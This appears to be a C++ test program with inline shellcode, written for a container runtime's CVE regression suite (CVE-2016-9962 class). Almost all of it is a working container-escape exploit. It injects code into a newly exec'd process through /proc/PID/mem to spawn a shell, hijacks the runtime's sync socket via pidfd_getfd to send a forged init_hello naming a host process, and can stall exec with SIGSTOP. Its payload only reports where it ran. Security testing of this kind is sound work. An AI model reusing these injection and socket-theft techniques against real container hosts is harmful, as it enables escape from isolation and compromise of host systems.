// A static x86-64 test program for the cve suite (CVE-2016-9962's class): run
// as a container's process, it waits for the first new process to appear in
// its PID namespace (a process `oci-run exec` starts), reads where that
// process is blocked (/proc/PID/syscall: its program counter) and writes code
// there through /proc/PID/mem. When the blocked call returns, that code execs
// /bin/sh with a script that prints what the hijacked process reached: its
// root (a marker file only the container's rootfs has) and its capabilities.
// It prints what it did: "target PID", "mem: wrote N bytes at ADDR" or the
// error that stopped it.
//
// `exec-hijack hello PID` attacks the runtime instead: it takes the new
// process's sync socket to the runtime (pidfd_getfd, which CAP_SYS_PTRACE
// allows without a user namespace) and sends on it an init_hello naming PID
// (a host process), before the exec stage names the process. It prints
// "hello: sent naming PID" or the error that stopped it.
//
// `exec-hijack stop` stops the new process (SIGSTOP) before its exec and
// prints "stopped PID": the runtime's exec then waits on it.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <set>
#include <string>

extern "C" const unsigned char hijack_code[], hijack_end[];

// execve("/bin/sh", {"/bin/sh", "-c", SCRIPT, 0}, 0), then exit_group(99).
// Position-independent: it is copied to wherever the target was stopped.
asm(R"(
    .section .rodata
    .globl hijack_code, hijack_end
hijack_code:
    lea 1f(%rip), %rdi
    lea 2f(%rip), %rsi
    lea 3f(%rip), %rdx
    push $0
    push %rdx
    push %rsi
    push %rdi
    mov %rsp, %rsi
    xor %edx, %edx
    mov $59, %eax
    syscall
    mov $99, %edi
    mov $231, %eax
    syscall
1:  .asciz "/bin/sh"
2:  .asciz "-c"
3:  .asciz "echo HIJACKED; if test -e /hijack-marker; then echo IN_CONTAINER; else echo ON_HOST; fi; /bin/grep -E '^(Cap(Eff|Bnd)|Seccomp):' /proc/self/status"
hijack_end:
    .previous
)");

namespace {

std::set<long> pids() {
    std::set<long> out;
    DIR *d = opendir("/proc");
    if (!d) return out;
    while (struct dirent *e = readdir(d)) {
        char *end;
        long pid = std::strtol(e->d_name, &end, 10);
        if (*end == '\0' && pid > 0) out.insert(pid);
    }
    closedir(d);
    return out;
}

void sleep_ms(long ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000};
    nanosleep(&ts, nullptr);
}

} // namespace

// As the container's PID 1, leaving would kill the target: stay until it is
// gone (bounded).
int wait_gone(long target, int code) {
    std::string dir = "/proc/" + std::to_string(target);
    for (int i = 0; i < 10000 && access(dir.c_str(), F_OK) == 0; i++)
        sleep_ms(1);
    return code;
}

// runtime/lifecycle/sync.hpp's Packet and Msg::init_hello, as the
// runtime reads them.
struct Packet {
    unsigned type;
    int value;
    char text[2048];
    int sender, fd;
};
constexpr unsigned kInitHello = 4;

// The sync socket among `target`'s fds (a SOCK_SEQPACKET one), or -1.
int steal_sync_socket(long target) {
    int pidfd = static_cast<int>(syscall(SYS_pidfd_open, target, 0));
    if (pidfd < 0) {
        std::printf("hello: pidfd_open: %s\n", std::strerror(errno));
        return -1;
    }
    int err = 0;
    for (int fd = 0; fd < 64; fd++) {
        int got = static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, fd, 0));
        if (got < 0) {
            if (errno != EBADF) err = errno;
            continue;
        }
        int type = 0;
        socklen_t len = sizeof type;
        if (getsockopt(got, SOL_SOCKET, SO_TYPE, &type, &len) == 0 && type == SOCK_SEQPACKET) {
            close(pidfd);
            return got;
        }
        close(got);
    }
    close(pidfd);
    std::printf("hello: no sync socket taken (%s)\n", err ? std::strerror(err) : "none");
    return -1;
}

// The first process to appear after this call (up to a minute), or 0.
long new_process() {
    std::set<long> before = pids();
    std::printf("watching\n");
    std::fflush(stdout);
    long target = 0;
    for (int i = 0; i < 60000 && !target; i++) {
        for (long p : pids())
            if (!before.count(p) && p != getpid()) target = p;
        if (!target) sleep_ms(1);
    }
    if (!target) {
        std::printf("no new process\n");
        return 0;
    }
    std::printf("target %ld\n", target);
    return target;
}

int stop_it() {
    long target = new_process();
    if (!target) return 1;
    if (kill(static_cast<pid_t>(target), SIGSTOP) == 0)
        std::printf("stopped %ld\n", target);
    else
        std::printf("stop: %s\n", std::strerror(errno));
    std::fflush(stdout);
    for (;;)
        pause();
}

int send_hello(long victim) {
    long target = new_process();
    if (!target) return 1;
    int sock = steal_sync_socket(target);
    if (sock >= 0) {
        Packet p{};
        p.type = kInitHello;
        p.value = static_cast<int>(victim);
        if (send(sock, &p, sizeof p, MSG_NOSIGNAL) == static_cast<ssize_t>(sizeof p))
            std::printf("hello: sent naming %ld\n", victim);
        else
            std::printf("hello: send: %s\n", std::strerror(errno));
        close(sock);
    }
    std::fflush(stdout);
    return wait_gone(target, 0);
}

int main(int argc, char **argv) {
    if (argc == 2 && std::strcmp(argv[1], "stop") == 0) return stop_it();
    if (argc == 3 && std::strcmp(argv[1], "hello") == 0)
        return send_hello(std::strtol(argv[2], nullptr, 10));
    long target = new_process();
    if (!target) return 1;
    std::string base = "/proc/" + std::to_string(target);
    // Where it is blocked: "NR ARG1 .. ARG6 SP PC" ("running" meanwhile).
    unsigned long pc = 0;
    std::string line;
    for (int i = 0; i < 2000 && !pc; i++) {
        int fd = open((base + "/syscall").c_str(), O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            std::printf("syscall: open: %s\n", std::strerror(errno));
            return wait_gone(target, 0);
        }
        char buf[512] = {};
        ssize_t n = read(fd, buf, sizeof buf - 1);
        int e = errno;
        close(fd);
        if (n < 0) {
            std::printf("syscall: read: %s\n", std::strerror(e));
            return wait_gone(target, 0);
        }
        line.assign(buf, static_cast<size_t>(n));
        const char *last = std::strrchr(buf, ' ');
        if (std::strncmp(buf, "running", 7) != 0 && last) pc = std::strtoul(last + 1, nullptr, 16);
        if (!pc) sleep_ms(1);
    }
    if (!pc) {
        std::printf("syscall: never blocked (%s)\n", line.c_str());
        return wait_gone(target, 0);
    }
    int mem = open((base + "/mem").c_str(), O_RDWR | O_CLOEXEC);
    if (mem < 0) {
        std::printf("mem: open: %s\n", std::strerror(errno));
        return wait_gone(target, 0);
    }
    size_t size = static_cast<size_t>(hijack_end - hijack_code);
    ssize_t w = pwrite(mem, hijack_code, size, static_cast<off_t>(pc));
    if (w < 0)
        std::printf("mem: write: %s\n", std::strerror(errno));
    else
        std::printf("mem: wrote %zd bytes at %lx\n", w, pc);
    close(mem);
    std::fflush(stdout);
    return wait_gone(target, 0);
}
